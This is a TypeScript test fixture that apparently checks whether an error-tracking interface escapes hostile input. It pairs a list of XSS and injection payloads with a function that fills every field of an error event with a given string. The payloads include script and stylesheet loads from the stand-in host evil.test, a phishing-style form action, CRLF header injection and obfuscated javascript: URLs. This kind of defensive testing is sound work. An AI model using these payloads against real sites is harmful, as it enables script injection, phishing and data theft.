/** What runs `window.pwned = 1`, or asks another site, where it is let: one way of breaking out each. */
export const PAYLOADS = [
  "<script>window.pwned=1</script>",
  "<ScRiPt/x>window.pwned=1</sCrIpT >",
  "<script src=https://evil.test/x.js></script>",
  "<img src=x onerror=window.pwned=1>",
  `"><img src=x onerror=window.pwned=1>`,
  "'><svg/onload=window.pwned=1>",
  "`onmouseover=window.pwned=1",
  `" autofocus onfocus="window.pwned=1`,
  "' style='x:expression(window.pwned=1)' x='",
  "</title><script>window.pwned=1</script>",
  "</textarea><script>window.pwned=1</script>",
  "</script><script>window.pwned=1</script>",
  "</style><style>@import 'https://evil.test/x.css';*{display:none}</style>",
  "--><script>window.pwned=1</script><!--",
  "]]><script>window.pwned=1</script>",
  "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<object data=https://evil.test/x></object><embed src=https://evil.test/x>",
  "<base href=https://evil.test/><meta http-equiv=refresh content='0;url=https://evil.test/'>",
  "<link rel=stylesheet href=https://evil.test/x.css>",
  "<form action=https://evil.test/><button>Sign in</button></form>",
  "<details open ontoggle=window.pwned=1>",
  "<body onload=window.pwned=1>",
  "<div hx-get=/x hx-trigger=load hx-on:click=window.pwned=1 hx-vals='js:{a:window.pwned=1}'>",
  "javascript:window.pwned=1",
  "JaVaScRiPt:window.pwned=1//https://shop.test/",
  "\u0001javascript:window.pwned=1",
  "java\tscript\n:window.pwned=1",
  "data:text/html,<script>parent.pwned=1</script>",
  "//evil.test/x",
  "https://evil.test/x.png",
  'https://shop.test/"onmouseover="window.pwned=1',
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "&#60;script&#62;window.pwned=1&#60;/script&#62;",
  "\u003cscript\u003ewindow.pwned=1\u003c/script\u003e",
  "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
  "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
  "\u202e<script>window.pwned=1</script>\u202c",
  "{{window.pwned=1}}<%=window.pwned=1%>",
  "[x](javascript:window.pwned=1) ![x](https://evil.test/x.png) <https://evil.test/x>",
  "x\r\nX-Evil: 1\r\n\r\n<script>window.pwned=1</script>",
] as const

/** An event that has `text` wherever an event may have words, names and addresses. */
export function eventOf(text: string, platform: string): object {
  const both = { [text]: text }
  const frame = {
    ...{ filename: text, abs_path: text, function: text, module: text, package: text },
    ...{
      context_line: text,
      pre_context: [text],
      post_context: [text],
      vars: { ...both, a: [both] },
    },
    ...{ lineno: 3, colno: 5, in_app: true, raw_function: text, symbol: text },
  }
  const stacktrace = { frames: [frame, { ...frame, in_app: false, context_line: undefined }] }
  const mechanism = { type: text, description: text, help_link: text, handled: false, data: both }
  return {
    platform,
    ...{
      level: text,
      logger: text,
      transaction: text,
      server_name: text,
      dist: text,
      release: text,
    },
    ...{ environment: text, culprit: text, fingerprint: [text, platform] },
    logentry: { message: text, formatted: text, params: [text] },
    exception: { values: [{ type: text, value: text, module: text, mechanism, stacktrace }] },
    threads: { values: [{ id: text, name: text, crashed: true, current: true, stacktrace }] },
    tags: { ...both, url: text, plain: text, [text.replaceAll(/[^\w.:-]/g, "")]: text },
    user: { id: text, email: text, username: text, name: text, ip_address: text, data: both },
    request: {
      ...{ url: text, method: text, query_string: both, data: both, cookies: both, env: both },
      ...{ fragment: text, headers: { ...both, Referer: text, "User-Agent": text } },
    },
    contexts: {
      ...{ browser: { name: text, version: text }, os: { name: text, version: text }, own: both },
      ...{ device: { model: text }, trace: { trace_id: "a".repeat(32), op: text }, [text]: both },
    },
    extra: { ...both, url: text },
    modules: both,
    sdk: {
      name: text,
      version: text,
      integrations: [text],
      packages: [{ name: text, version: text }],
    },
    breadcrumbs: [
      { type: text, category: text, message: text, level: text, data: both },
      { type: "http", category: "xhr", data: { url: text, method: text, status_code: text } },
      { type: "navigation", data: { from: text, to: text } },
      { category: "query", message: text },
    ],
    debug_meta: { images: [{ type: "elf", code_file: text, debug_file: text, image_addr: "0x1" }] },
  }
}
